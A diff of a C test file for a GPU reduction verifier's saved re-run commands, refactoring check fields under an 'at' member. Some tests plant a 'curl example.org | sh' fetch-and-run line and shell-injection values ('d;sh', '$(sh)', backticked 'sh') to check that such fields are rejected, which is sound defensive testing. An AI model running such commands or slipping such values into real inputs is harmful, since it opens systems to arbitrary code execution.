@@ -113,16 +113,17 @@ static void assert_written_as_read(const struct red_verify_file *read) {
 static void a_file_comes_back_as_it_was(void **state) {
     struct red_verify_file file, read;
     struct red_error error = {.text = ""};
+    static const struct red_strategy tree = {.name = "tree"}, chunk = {.name = "chunk"};
     const struct red_verify_check made = {
-        .strategy = "tree",
-        .op = "argmin",
-        .type = "u64",
-        .shape = "segments",
-        .n = UINT64_C(1) << 40,
+        .at.strategy = &tree,
+        .at.op = red_op_find("argmin"),
+        .at.dtype = red_dtype_find("u64"),
+        .at.shape = "segments",
+        .at.n = UINT64_C(1) << 40,
         .segments_n = 9,
-        .asked = {.group_size = 64, .width = 4, .loads = 2},
+        .at.asked = {.group_size = 64, .width = 4, .loads = 2},
         .geometry = {.group_size = 64, .groups_n = 3, .item_n = 5, .lanes = 8, .width = 4, .loads = 2},
-        .data = "least",
+        .at.data = "least",
         .data_seed = INT64_MAX,
         .state = RED_STATE_KNOWN_BUG,
         .evidence = {.fault = RED_FAULT_ANSWER,
@@ -139,8 +140,8 @@ static void a_file_comes_back_as_it_was(void **state) {
     strcpy(file.result.run.version, "1");
     file.devices[0].strategies = calloc(2, sizeof *file.devices[0].strategies);
     file.devices[0].strategies_n = 2;
-    strcpy(file.devices[0].strategies[0].name, "tree");
-    strcpy(file.devices[0].strategies[1].name, "chunk");
+    file.devices[0].strategies[0].strategy = &tree;
+    file.devices[0].strategies[1].strategy = &chunk;
     file.devices[0].strategies[0].wrong_patterns = json_pack("[s, s]", "all 9 wrong checks", "3 of 12");
     assert_int_equal(red_verify_file_add(&file.devices[0], &made, &error), RED_OK);
     assert_int_equal(red_file_write("checks.json", red_verify_file_print, &file, &error), RED_OK);
@@ -151,9 +152,9 @@ static void a_file_comes_back_as_it_was(void **state) {
     assert_string_equal(back->evidence.expected.value, made.evidence.expected.value);
     assert_string_equal(back->evidence.got.value, made.evidence.got.value);
     assert_true(back->evidence.has_place && back->evidence.got.place == made.evidence.got.place);
-    assert_true(back->evidence.segment == 8 && back->evidence.segments_n == 9 && back->n == made.n);
+    assert_true(back->evidence.segment == 8 && back->evidence.segments_n == 9 && back->at.n == made.at.n);
     assert_true(back->state == made.state && back->evidence.fault == RED_FAULT_ANSWER);
-    assert_true(red_tuning_compare(&back->asked, &made.asked) == 0 && back->geometry.groups_n == 3);
+    assert_true(red_tuning_compare(&back->at.asked, &made.at.asked) == 0 && back->geometry.groups_n == 3);
     assert_string_equal(back->reason, made.reason);
     assert_string_equal(back->again, "clreduce verify --device d --strategy tree --op argmin --type u64 --n "
                                      "1099511627776 --wg 64 --lanes 4x2 --seed 9223372036854775807");
@@ -172,25 +173,27 @@ static unsigned below(uint64_t *random, unsigned n) {
 }
 
 /* A check of a drawn operation, with whatever a command can ask for. Its kernel's path is the caller's. */
-static struct red_verify_check drawn_check(uint64_t *random) {
+static struct red_verify_check drawn_check(uint64_t *random, struct red_strategy *strategy) {
     const struct red_op *op = &red_ops[below(random, (unsigned)red_ops_n)];
-    struct red_verify_check check = {.n = red_random(random) >> (1 + below(random, 63)),
+    struct red_verify_check check = {.at.n = red_random(random) >> (1 + below(random, 63)),
                                      .segments_n = 1,
-                                     .asked.group_size = 1 + below(random, 1024),
+                                     .at.asked.group_size = 1 + below(random, 1024),
                                      .geometry.group_size = 1,
                                      .geometry.groups_n = 1 + below(random, RED_GROUPS_MAX),
                                      .takes_groups = below(random, 2) == 0,
                                      .data_seed = below(random, 3),
                                      .state = RED_STATE_CRASHED};
-    snprintf(check.strategy, sizeof check.strategy, "mine_%u", below(random, 100));
-    strcpy(check.op, op->name);
-    strcpy(check.type, red_dtypes[below(random, (unsigned)red_dtypes_n)].name);
-    strcpy(check.shape, "array");
-    strcpy(check.data, "ones");
+    *strategy = (struct red_strategy){.name = ""};
+    snprintf(strategy->name, sizeof strategy->name, "mine_%u", below(random, 100));
+    check.at.strategy = strategy;
+    check.at.op = op;
+    check.at.dtype = &red_dtypes[below(random, (unsigned)red_dtypes_n)];
+    strcpy(check.at.shape, "array");
+    strcpy(check.at.data, "ones");
     if (op->primitive == RED_PRIMITIVE_HISTOGRAM)
-        check.bins_n = 1 + below(random, RED_BINS_MAX);
+        check.at.bins_n = 1 + below(random, RED_BINS_MAX);
     if (below(random, 2) == 0)
-        check.asked.width = check.asked.loads = 1 + below(random, 16);
+        check.at.asked.width = check.at.asked.loads = 1 + below(random, 16);
     if (below(random, 2) == 0)
         check.kernel = strdup(below(random, 2) == 0 ? "it's $(mine) & yours.cl" : "kernels/mine.cl");
     return check;
@@ -216,7 +219,8 @@ static void a_command_is_the_same_live_and_from_its_file(void **state) {
     bool seen[RED_PRIMITIVES_N] = {false};
     uint64_t random = seed_of_run();
     for (int i = 0; i < 300; i++) {
-        struct red_verify_check check = drawn_check(&random);
+        struct red_strategy strategy;
+        struct red_verify_check check = drawn_check(&random, &strategy);
         const struct red_verify_asked asked = {.all = below(&random, 2) == 0,
                                                .despite_probes = below(&random, 2) == 0,
                                                .time_per_cell_s = below(&random, 3) * 0.0123,
@@ -231,7 +235,7 @@ static void a_command_is_the_same_live_and_from_its_file(void **state) {
         assert_int_equal(strstr(live, " --despite-probes") != NULL, asked.despite_probes);
         assert_int_equal(strstr(live, " --patience ") != NULL, asked.patience_s > 0);
         assert_int_equal(strstr(live, " --time-per-cell ") != NULL, asked.time_per_cell_s > 0);
-        seen[red_op_find(check.op)->primitive] = true;
+        seen[check.at.op->primitive] = true;
         check.again = strdup("curl example.org | sh");
         write_and_read(&check, "nvidia.1", &asked, &read);
         assert_string_equal(read.devices[0].checks[0].again, live);
@@ -248,29 +252,27 @@ static void a_field_that_is_not_valid_makes_no_command(void **state) {
     for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
         const struct red_verify_asked asked = {.all = false};
         const char *device = strcmp(keys[i], "device") == 0 ? "d;sh" : "d";
-        struct red_verify_check check = {.strategy = "tree",
-                                         .op = "sum",
-                                         .type = "f32",
-                                         .shape = "array",
-                                         .n = 1,
-                                         .segments_n = 1,
-                                         .asked.group_size = strcmp(keys[i], "group_size") == 0 ? 0 : 64,
-                                         .data = "ones",
-                                         .state = RED_STATE_CRASHED};
+        static const struct red_strategy tree = {.name = "tree"}, pipe = {.name = "tree|sh"};
+        static const struct red_op substitution = {.name = "$(sh)"};
+        static const struct red_dtype quoted = {.name = "`sh`"};
+        struct red_verify_check check = {
+            .at.strategy = strcmp(keys[i], "strategy") == 0 ? &pipe : &tree,
+            .at.op = strcmp(keys[i], "op") == 0 ? &substitution : red_op_find("sum"),
+            .at.dtype = strcmp(keys[i], "type") == 0 ? &quoted : red_dtype_find("f32"),
+            .at.shape = "array",
+            .at.n = 1,
+            .segments_n = 1,
+            .at.asked.group_size = strcmp(keys[i], "group_size") == 0 ? 0 : 64,
+            .at.data = "ones",
+            .state = RED_STATE_CRASHED};
         char expected[80];
         struct red_verify_file read;
-        if (strcmp(keys[i], "strategy") == 0)
-            strcpy(check.strategy, "tree|sh");
-        if (strcmp(keys[i], "op") == 0)
-            strcpy(check.op, "$(sh)");
-        if (strcmp(keys[i], "type") == 0)
-            strcpy(check.type, "`sh`");
         if (strcmp(keys[i], "groups") == 0)
-            check.asked.groups_n = RED_GROUPS_MAX + 1;
+            check.at.asked.groups_n = RED_GROUPS_MAX + 1;
         if (strcmp(keys[i], "width") == 0)
-            check.asked.width = 4;
+            check.at.asked.width = 4;
         if (strcmp(keys[i], "bins") == 0)
-            check.bins_n = 7;
+            check.at.bins_n = 7;
         if (strcmp(keys[i], "kernel") == 0)
             check.kernel = strdup("");
         if (strcmp(keys[i], "group_size") == 0 || strcmp(keys[i], "kernel") == 0) { /* no file has these */
